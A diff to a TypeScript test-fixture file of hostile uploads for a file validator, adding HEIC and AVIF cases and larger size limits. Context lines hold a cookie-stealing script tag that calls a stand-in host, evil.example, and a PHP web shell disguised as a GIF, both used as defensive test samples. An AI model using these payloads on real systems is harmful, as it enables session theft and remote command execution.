@@ -1,6 +1,7 @@
 import { randomBytes } from 'node:crypto';
 import { deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
+import { avifOf, box, heicOf } from '#test/heif-files.ts';
 import {
   mp3Of,
   pngChunk,
@@ -21,7 +22,7 @@ export type HostileFile = [name: string, content: () => FileContent, reason: str
 export const svg = (inside = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}<rect width="9" height="9"/></svg>`;
 export const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
-export const allowed = /^file must be a PNG, JPEG or WebP picture or a WAV, MP3 or WebM sound/;
+export const allowed = /^file must be a PNG, JPEG, WebP, HEIC or AVIF picture or a WAV, MP3 or WebM sound/;
 const text = (latin1: string, zeros = 2000) => Buffer.concat([Buffer.from(latin1, 'latin1'), Buffer.alloc(zeros)]);
 export const hex = (digits: string, zeros = 2000) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(zeros)]);
 
@@ -42,7 +43,6 @@ export const wrongTypes: HostileFile[] = [
   ['a PHP file that begins as a GIF', () => 'GIF89a<?php system($_GET["c"]); ?>', /\(this is gif\)/],
   ['a GIF picture', () => sharp(pngOf(9, 9)).gif().toBuffer(), /\(this is gif\)/],
   ['a TIFF picture', () => sharp(pngOf(9, 9)).tiff().toBuffer(), /\(this is tif\)/],
-  ['an AVIF picture', () => sharp(pngOf(64, 64)).avif().toBuffer(), /\(this is avif\)/],
   ['a BMP picture', () => text('BM'), /\(this is bmp\)/],
   ['an icon', () => hex('00000100010010100000'), /\(this is ico\)/],
   ['a PDF document', () => text('%PDF-1.7\n'), /\(this is pdf\)/],
@@ -92,7 +92,12 @@ const changed = async (whole: FileContent, at: number, bytes: number[]) => {
 };
 const png = (...chunks: Uint8Array[]) => Buffer.concat([pngSignature, ...chunks]);
 const broken = 'file must be a whole picture: this one is broken';
-const tooLarge = /^file must be a picture of at most 8,192 pixels a side and 40,000,000 pixels in all/;
+const tooLarge = /^file must be a picture of at most 16,384 pixels a side and (51|108),000,000 pixels in all/;
+
+const heic = (shape = {}) =>
+  heicOf({ columns: 2, tiles: ['red', 'green', 'blue', 'grey'], width: 128, height: 128, ...shape });
+const avif = () => avifOf({ primaries: 1, transfer: 13 });
+const moving = 'file must not be an animated picture (this is a sequence of pictures, HEIC or AVIF)';
 
 export const pictures: HostileFile[] = [
   ['a PNG that is nothing but its signature', () => pngSignature, /^file must be/],
@@ -130,12 +135,24 @@ export const pictures: HostileFile[] = [
   ['a decompression bomb of 8000 × 8000 in 64 KiB', () => pngOf(8000, 8000), tooLarge],
   ['a picture of 1 × 60000', () => pngOf(1, 60_000), tooLarge],
   ['a picture of 60000 × 1', () => pngOf(60_000, 1), tooLarge],
-  ['a picture with one pixel a side too much', () => pngOf(8193, 10), tooLarge],
+  ['a picture with one pixel a side too much', () => pngOf(16_385, 10), tooLarge],
   [
     'an animated PNG',
     () => png(pngHeader(9, 9), apngControl, pixels(90), pngChunk('IEND')),
     'file must not be an animated picture',
   ],
+  ['a HEIC that is nothing but its beginning', () => heic().subarray(0, 40), broken],
+  ['a HEIC whose last tile is cut', () => part(heic(), 0.99), 'file must be a whole picture: this one ends too early'],
+  ['a HEIC whose tiles are noise', () => Buffer.concat([heic().subarray(0, -110), randomBytes(110)]), broken],
+  ['a HEIC whose index is noise', () => changed(heic(), 60, [...randomBytes(300)]), /^file must be/],
+  ['a HEIC that says it has 60000 × 60000 pixels', () => heic({ width: 60_000, height: 60_000 }), tooLarge],
+  ['a HEIC of more than its tiles hold', () => heic({ width: 5000, height: 5000 }), broken],
+  ['a HEIC with a JPEG inside', () => heic({ codec: 'jpeg' }), /\(this is a HEIF picture of the kind jpeg\)/],
+  ['a sequence of HEIC pictures', () => heic({ brand: 'hevc' }), moving],
+  ['a HEIF file with a film beside its picture', () => heic({ beside: box('moov', Buffer.alloc(8)) }), moving],
+  ['a sequence of AVIF pictures', () => changed(avif(), 8, [...Buffer.from('avis')]), moving],
+  ['an AVIF that ends in the middle', () => part(avif(), 0.95), 'file must be a whole picture: this one'],
+  ['an AVIF whose pixels are noise', () => Buffer.concat([avif().subarray(0, -30), randomBytes(30)]), broken],
   ['an animated WebP', () => webp(3), 'file must not be an animated picture'],
   ['a JPEG that is nothing but its beginning', () => Buffer.from('ffd8ffe0', 'hex'), broken],
   ['a JPEG that ends in the middle', () => part(jpeg(), 0.8), broken],
